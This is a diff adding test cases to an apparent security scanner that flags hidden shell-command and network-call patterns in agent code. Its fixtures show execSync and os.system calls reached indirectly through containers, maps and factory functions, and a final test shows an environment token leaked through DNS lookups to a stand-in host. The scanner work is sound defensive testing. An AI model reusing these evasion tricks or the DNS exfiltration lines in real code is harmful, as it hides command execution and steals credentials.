@@ -195,6 +195,43 @@ vars(os)[sys.argv[2]]("${CMD}")
     ]);
   });
 
+  it("scan/shell-command: a container of child_process's members held by a name inside a function and called, handed over whole (also a Map's entry set under a key not fixed), or returned by a function of the file and called, fails the built Action, where called or handed over", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/made.js"), `const cp = require("child_process");\nfunction mk() {\n  return { run: cp.execSync };\n}\nmk().run("${CMD}");\nconst api = mk();\napi.run("${CMD}");\n`);
+      writeFileSync(join(dir, "agent/local.js"), `const cp = require("child_process");\nfunction go(i) {\n  const o = { run: cp.execSync };\n  o.run("${CMD}");\n  const l = [cp.execSync];\n  l[i]("${CMD}");\n}\n`);
+      writeFileSync(join(dir, "agent/handed.js"), `const cp = require("child_process");\nconst opts = { spawn: cp.spawn };\nsetup(opts);\nconst tools = [cp.exec];\nagent.run(tools);\nconst m = new Map();\nm.set(key, cp.execSync);\nm.get(other)("${CMD}");\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/shell-command agent/handed.js 3 7",
+      "scan/shell-command agent/handed.js 5 11",
+      "scan/shell-command agent/handed.js 7 12",
+      "scan/shell-command agent/local.js 4 3",
+      "scan/shell-command agent/local.js 6 3",
+      "scan/shell-command agent/made.js 5 1",
+      "scan/shell-command agent/made.js 7 1",
+    ]);
+  });
+
+  it("scan/shell-command, scan/network-call: a Python container of watched functions held by a name inside a function and called, handed over whole, or returned by a function of the file and called, fails the built Action, where called or handed over", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/local.py"), `import os\ndef go(i):\n    o = {"run": os.system}\n    o["run"]("${CMD}")\n    l = [os.system]\n    l[i]("${CMD}")\n`);
+      writeFileSync(join(dir, "agent/handed.py"), `import requests, subprocess\ncfg = {"post": requests.post}\nrun(cfg)\ntools = [subprocess.run]\nagent.run(tools)\n`);
+      writeFileSync(join(dir, "agent/made.py"), `import os\ndef mk():\n    return {"run": os.system}\nmk()["run"]("${CMD}")\napi = mk()\napi.get("run")("${CMD}")\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/network-call agent/handed.py 3 5",
+      "scan/shell-command agent/handed.py 5 11",
+      "scan/shell-command agent/local.py 4 5",
+      "scan/shell-command agent/local.py 6 5",
+      "scan/shell-command agent/made.py 4 1",
+      "scan/shell-command agent/made.py 6 1",
+    ]);
+  });
+
   it("scan/network-call: a DNS lookup carrying data out (Node's dns, dns/promises and Resolver; an event loop's getaddrinfo, dnspython) fails the built Action, at the call", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/lookup.js"), `const dns = require("dns");\nconst secret = process.env.TOKEN;\ndns.lookup(\`\${secret}.x.example\`, () => {});\nrequire("dns/promises").resolveTxt(\`\${secret}.x.example\`);\nnew dns.Resolver().resolve4(\`\${secret}.x.example\`, () => {});\n`);
